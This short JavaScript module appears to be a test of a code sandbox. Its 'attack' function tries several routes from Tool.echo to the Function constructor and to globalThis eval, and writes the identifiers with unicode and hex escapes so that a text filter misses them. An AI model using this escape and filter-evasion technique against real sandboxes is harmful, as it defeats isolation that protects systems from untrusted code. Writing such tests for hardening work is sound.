// A forbidden name is written with escapes, so that a filter of texts does not find it.
// says: held EvalError
export const attack = () => {
  const makers = [Tool.echo.\u0063onstructor, Tool.echo['\x63onstructor'], Tool.echo['\u{63}onstructor'], { __pr\u006fto__: Tool.echo }.constructor, Object.g\u0065tPrototypeOf(Tool.echo).constructor];
  const globals = ['\u0065val', 'F\u0075nction'].map((name) => globalThis[name]);
  for (const make of makers) { const gained = $code(make, 'escape'); if (gained) return gained; }
  return `${$all(makers, 'maker')} ${[...makers, ...globals].map((make) => $name(() => make('return this')())).filter((name, at, all) => all.indexOf(name) === at).join(' ')}`;
};
